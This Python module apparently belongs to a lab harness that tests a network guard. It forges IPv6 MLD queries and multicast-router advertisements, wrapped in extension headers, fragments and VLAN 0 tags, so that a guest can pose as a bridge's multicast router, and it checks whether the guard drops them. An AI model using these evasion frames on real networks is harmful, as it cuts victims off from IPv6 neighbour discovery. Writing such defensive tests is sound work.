"""A guest says that it is the multicast router of the bridge.

A bridge that has heard a query (RFC 3810) sends neighbour discovery only to those who have answered one, and a query may say that answers have
two hours. Gained: neighbours whose hardware address the host cannot find out any more, so that they get no reply by IPv6. And a bridge that has
heard of a multicast router (RFC 4286) sends it all neighbour discovery. In the way: the guard drops both, whatever header they are behind
(counter `mld_query`).
"""

import json
import struct
import time

import attack
import rules
import space
import wire
from attack import Outcome
from attacks.lib import dresses
from field import Field
from host import Host

QUERY, ROUTER = 130, 151
EVERYONE = (wire.mac("33:33:00:00:00:01"), wire.ip("ff02::1"))
SNOOPERS = (wire.mac("33:33:00:00:00:6a"), wire.ip("ff02::6a"))
# Router alert (RFC 2711), and padding.
ALERT = b"\x05\x02\0\0\x01\0"
AUTHENTICATION = 51


def kinds(field: Field) -> dict[str, list[bytes]]:
    """The frames, by what is special about them."""
    source = wire.ip("fe80::1")

    def message(to: tuple[bytes, bytes], body: bytes, headers: bytes, following: int, cut: int = 0) -> list[bytes]:
        payload = headers + wire.icmpv6(source, to[1], body)
        first = bytes([following, 0]) + ALERT
        if cut:
            return [_frame(field, source, to, first + struct.pack("!BBHI", wire.ICMPV6, 0, start | more, 9) + part)
                    for start, more, part in ((0, 1, payload[:cut]), (cut, 0, payload[cut:]))]
        return [_frame(field, source, to, first + payload)]

    def query(headers: bytes = b"", following: int = wire.ICMPV6, cut: int = 0) -> list[bytes]:
        # The answers have as long as can be said.
        return message(EVERYONE, struct.pack("!BBHHH16sBBH", QUERY, 0, 0, 0xFFFF, 0, bytes(16), 0, 125, 0), headers, following, cut)

    def router(headers: bytes = b"", following: int = wire.ICMPV6) -> list[bytes]:
        return message(SNOOPERS, struct.pack("!BBHHH", ROUTER, 20, 0, 125, 2), headers, following)

    authentication = struct.pack("!BBHIII", wire.ICMPV6, 2, 0, 1, 1, 1)
    options = bytes([wire.ICMPV6, 0, 1, 4, 0, 0, 0, 0])
    plain = query()[0]
    return {
        "behind hop-by-hop options": query(),
        "behind destination options": query(options, wire.DESTINATION_OPTIONS),
        "behind a routing header": query(bytes([wire.ICMPV6, 0, 4, 0, 0, 0, 0, 0]), 43),
        "in an atomic fragment": query(struct.pack("!BBHI", wire.ICMPV6, 0, 0, 7), wire.FRAGMENT),
        "in two fragments": query(b"", wire.FRAGMENT, 24),
        "behind an authentication header": query(authentication, AUTHENTICATION),
        "behind options and an authentication header": query(bytes([AUTHENTICATION]) + options[1:] + authentication, wire.DESTINATION_OPTIONS),
        "a router behind hop-by-hop options": router(),
        "a router behind destination options": router(options, wire.DESTINATION_OPTIONS),
        "a router in an atomic fragment": router(struct.pack("!BBHI", wire.ICMPV6, 0, 0, 7), wire.FRAGMENT),
        "a router behind an authentication header": router(authentication, AUTHENTICATION),
        "a router in VLAN 0": [wire.tagged(router()[0], (wire.VLAN, 0))],
        "in VLAN 0": [wire.tagged(plain, (wire.VLAN, 0))],
        "in VLAN 0 of 802.1ad": [wire.tagged(plain, (wire.PROVIDER_VLAN, 0))],
    }


def _frame(field: Field, source: bytes, to: tuple[bytes, bytes], payload: bytes) -> bytes:
    return wire.ethernet(to[0], field.me.link, wire.IPV6, wire.ipv6(source, to[1], payload, wire.HOP_BY_HOP, 1))


def routers() -> list[str]:
    """The ports of the bridge behind which it believes multicast routers."""
    found = json.loads(space.call("bridge", "-j", "-d", "mdb", "show", "dev", "br0"))
    return [entry["port"] for part in found for entry in part.get("router", {}).get("br0", [])]


class Attack(attack.Attack):
    """The forger, in every dress."""

    hosts = ("address", "redirect", "bridge", "auto")
    families = (6,)
    proofs = (("address", 6), ("redirect", 6))

    def attack(self, field: Field) -> None:
        """Asks."""
        found = kinds(field)
        field.report["kinds"] = list(found)
        dresses.send(field, found)

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks whom the bridge believes, and has the host forget its neighbours."""
        time.sleep(1.5)
        outcome.host_report["believed"] = [port for port in routers() if port == host.forger.tap]
        space.ip("neighbour flush dev br0")

    def gained(self, outcome: Outcome) -> str | None:
        """A bridge that was told."""
        if outcome.forger["sent"] < 20:
            raise space.Failure(f"only {outcome.forger['sent']} queries were sent: the attack does not work")
        if believed := outcome.host_report["believed"]:
            return f"the bridge believes {believed[0]}; victims lost {outcome.lost} requests"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def weaken(self, host: Host) -> None:
        """Lets queries in."""
        rules.remove(r"mld_query", "netdev")

    def restore(self, host: Host) -> None:
        """The bridge forgets."""
        space.ip("link set br0 type bridge mcast_snooping 0\nlink set br0 type bridge mcast_snooping 1")
        host.heal()
